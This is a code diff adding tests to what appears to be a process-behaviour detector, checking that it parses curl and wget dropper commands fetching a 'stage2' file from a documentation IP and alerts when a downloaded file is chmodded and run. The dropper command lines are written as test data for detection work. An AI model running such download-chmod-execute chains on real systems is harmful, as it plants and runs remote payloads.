@@ -170,6 +170,48 @@ def test_a_hostile_command_line_costs_the_builtin_rules_linear_time():
 MEMFD = "5e27c0de-0000-4000-8000-000000000003"
 
 
+def test_download_targets_in_option_clusters_and_directories():
+    """How droppers spell a download: flags clustered before the value-taking one (curl -sSLo F,
+    -fsSLO; wget -qO F), a value glued to it, wget -P DIR / curl --output-dir DIR. Each names
+    the file written; -O- (stdout) and a value of another option name none."""
+    from monitor.detect.behaviour import _download_targets as t
+    u = "http://198.51.100.7/x/stage2?a=1"
+    assert t("curl", ["curl", "-sSLo", "p", u]) == ["p"]
+    assert t("curl", ["curl", "-sLop", u]) == ["p"]
+    assert t("curl", ["curl", "-fsSLO", u]) == ["stage2"]
+    assert t("curl", ["curl", "-kLs", u, "-o", "/tmp/p"]) == ["/tmp/p"]
+    assert t("curl", ["curl", "--output-dir", "/tmp/d", "-sO", u]) == ["/tmp/d/stage2"]
+    assert t("curl", ["curl", "-sH", "X-o: y", u]) == []  # -H took "X-o: y": nothing written
+    assert t("curl", ["curl", "-so", "-", u]) == []
+    assert t("wget", ["wget", "-qO", "p", u]) == ["p"]
+    assert t("wget", ["wget", "-qOp", u]) == ["p"]
+    assert t("wget", ["wget", "-qO-", u]) == []
+    assert t("wget", ["wget", "-nv", u]) == ["stage2"]
+    assert t("wget", ["wget", "-qP", "/tmp/d", u]) == ["/tmp/d/stage2"]
+    assert t("wget", ["wget", "--directory-prefix=/tmp/d", u]) == ["/tmp/d/stage2"]
+    assert t("wget", ["wget", "--output-document=p", u]) == ["p"]
+
+
+def test_download_chmod_exec_through_busybox():
+    """Alpine's wget and chmod are busybox applets (/usr/bin/wget -> /bin/busybox: exe busybox,
+    argv[0] wget); elsewhere `busybox wget` does the same. Both are a download and a chmod."""
+    det = Detector.from_paths(None)
+    common = {"cwd": "/srv/d", "sessionid": 8, "user": "bob", "uid": 1000}
+    for i, (dl, ch) in enumerate(((["wget", "-qO", "p1", "http://198.51.100.7/p"], ["chmod", "+x", "p1"]),
+                                  (["busybox", "wget", "-O", "p2", "http://198.51.100.7/p"],
+                                   ["busybox", "chmod", "755", "p2"]))):
+        n = 60 + 3 * i
+        assert det.observe(event(pid=n, exec_id=f"b:1:{n}", exe="/usr/bin/busybox", filename="/bin/" + dl[0],
+                                 argv=dl, **common)) == []
+        assert det.observe(event(pid=n + 1, exec_id=f"b:1:{n + 1}", exe="/usr/bin/busybox",
+                                 filename="/bin/" + ch[0], argv=ch, **common)) == []
+        name = dl[-2]
+        alerts = det.observe(event(pid=n + 2, exec_id=f"b:1:{n + 2}", exe=f"/srv/d/{name}", filename=f"./{name}",
+                                   argv=[f"./{name}"], **common))
+        assert [(a.rule.id[-2:], a.pid, a.matched["file"], a.matched["downloaded_by"]) for a in alerts] == [
+            ("11", n + 2, f"/srv/d/{name}", " ".join(dl))]
+
+
 def test_a_memfd_named_like_runcs_clone_is_excluded_only_when_root_runs_it():
     """runc (as root) re-executes itself from a memfd named runc_cloned; any user can give a
     memfd that name, so the name alone must not hide a fileless payload."""
